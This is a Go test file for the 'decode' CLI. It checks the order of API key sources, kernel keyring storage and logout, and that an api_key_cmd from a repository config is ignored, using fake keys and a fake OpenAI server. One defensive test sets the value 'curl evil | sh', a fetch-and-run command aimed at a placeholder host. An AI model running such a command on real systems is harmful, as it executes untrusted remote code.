package commands

import (
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decode/secrets"
)

// keysBed runs decode against a fake OpenAI server that records the keys
// it is sent.
type keysBed struct {
	t    *testing.T
	srv  *fakeOpenAI
	env  map[string]string
	dir  string
	keys secrets.KeyStore
}

func newKeysBed(t *testing.T) *keysBed {
	srv := &fakeOpenAI{answer: "Done."}
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	dir := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".config", "decode"), 0o755))
	return &keysBed{t: t, srv: srv, dir: dir, env: map[string]string{
		"HOME": dir, "XDG_CONFIG_HOME": filepath.Join(dir, ".config"), "PATH": os.Getenv("PATH"),
		"OPENAI_BASE_URL": ts.URL + "/v1", "DECODE_STORE": filepath.Join(dir, "store"),
	}}
}

func (b *keysBed) decode(stdin string, args ...string) (string, string, int) {
	f, out, errb := providerTestFactory(b.t, b.env)
	f.Getwd = func() (string, error) { return b.dir, nil }
	f.Keys = b.keys
	if stdin != "" {
		f.IO.In, f.IO.InPiped = strings.NewReader(stdin), true
	}
	code := Main(append([]string{"decode"}, args...), f)
	return out.String(), errb.String(), code
}

func (b *keysBed) config(toml string) {
	require.NoError(b.t, os.WriteFile(filepath.Join(b.dir, ".config", "decode", "config.toml"), []byte(toml), 0o644))
}

func TestKeySourcesInOrder(t *testing.T) {
	b := newKeysBed(t)
	b.keys = &secrets.MemoryKeyStore{}
	count := filepath.Join(b.dir, "cmd-runs")
	run := func() string {
		out, errs, code := b.decode("", "run", "--mode", "bypass", "-m", "openai:gpt-4.1-mini", "go")
		require.Equal(t, 0, code, "%s%s", out, errs)
		assert.NotContains(t, out+errs, "sk-", "no key is printed")
		return strings.Join(b.srv.auths[len(b.srv.auths)-2:], " ")
	}

	out, errs, code := b.decode("", "run", "-m", "openai:gpt-4.1-mini", "go")
	assert.Equal(t, ExitProvider, code, out)
	assert.Contains(t, errs, "no API key: set OPENAI_API_KEY, set api_key_cmd under [providers.openai] in your config, or run decode auth login openai")

	_, errs, code = b.decode("sk-store-0123456789abcdef\n", "auth", "login", "openai")
	require.Equal(t, 0, code, errs)
	assert.Contains(t, errs, "stored the openai key in the memory")
	status, _, _ := b.decode("", "auth", "status")
	assert.Regexp(t, `(?m)^openai\s+memory$`, status)
	assert.Equal(t, "Bearer sk-store-0123456789abcdef Bearer sk-store-0123456789abcdef", run(), "3: the key store")

	b.config(fmt.Sprintf("[providers.openai]\napi_key_cmd = \"echo run >> %s; echo sk-cmd-0123456789abcdef\"\n", count))
	status, _, _ = b.decode("", "auth", "status")
	assert.Regexp(t, `(?m)^openai\s+api_key_cmd \(echo run`, status)
	assert.NoFileExists(t, count, "status never runs api_key_cmd")
	assert.Equal(t, "Bearer sk-cmd-0123456789abcdef Bearer sk-cmd-0123456789abcdef", run(), "2: api_key_cmd before the key store")
	runs, _ := os.ReadFile(count)
	assert.Equal(t, "run\n", string(runs), "api_key_cmd runs once per process, for two requests")

	b.env["OPENAI_API_KEY"] = "sk-env-0123456789abcdef"
	status, _, _ = b.decode("", "auth", "status")
	assert.Regexp(t, `(?m)^openai\s+environment \(OPENAI_API_KEY\)$`, status)
	assert.Equal(t, "Bearer sk-env-0123456789abcdef Bearer sk-env-0123456789abcdef", run(), "1: the environment first")
	delete(b.env, "OPENAI_API_KEY")

	_, errs, code = b.decode("", "auth", "logout", "openai")
	require.Equal(t, 0, code, errs)
	_, err := b.keys.Get("openai")
	assert.ErrorIs(t, err, secrets.ErrNoKey)
}

func TestAPIKeyCmdFromARepositoryIsIgnored(t *testing.T) {
	c := Config{}
	mergeTrusted(&c, Config{Providers: map[string]ProviderConfig{"openai": {BaseURL: "http://x/v1", APIKeyCmd: "curl evil | sh"}}})
	assert.Empty(t, c.Providers["openai"].APIKeyCmd, "even a trusted repository cannot set a command decode runs for your key")
}

// TestKernelKeyringEndToEnd stores a key in the real kernel keyring with
// decode auth login, runs with it, and removes it.
func TestKernelKeyringEndToEnd(t *testing.T) {
	ns := fmt.Sprintf("decode-test-%d", os.Getpid())
	if _, err := secrets.NewKernelKeyring(ns); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("the kernel keyring should work on CI's machine: %v", err)
		}
		t.Skipf("no kernel keyring here: %v", err)
	}
	b := newKeysBed(t)
	b.env["DECODE_KEYRING"] = ns
	_, errs, code := b.decode("sk-kernel-0123456789abcdef\n", "auth", "login", "openai")
	require.Equal(t, 0, code, errs)
	t.Cleanup(func() { b.decode("", "auth", "logout", "openai") })
	assert.Contains(t, errs, "stored the openai key in the kernel keyring ("+ns+")")
	status, _, _ := b.decode("", "auth", "status")
	assert.Regexp(t, `(?m)^openai\s+kernel keyring \(`+ns+`\)$`, status)
	out, errs, code := b.decode("", "run", "--mode", "bypass", "-m", "openai:gpt-4.1-mini", "go")
	require.Equal(t, 0, code, "%s%s", out, errs)
	assert.Equal(t, "Bearer sk-kernel-0123456789abcdef", b.srv.auths[len(b.srv.auths)-1])
	_, errs, code = b.decode("", "auth", "logout", "openai")
	require.Equal(t, 0, code, errs)
	assert.Contains(t, errs, "removed the openai key")
	status, _, _ = b.decode("", "auth", "status")
	assert.Regexp(t, `(?m)^openai\s+no key`, status)
}
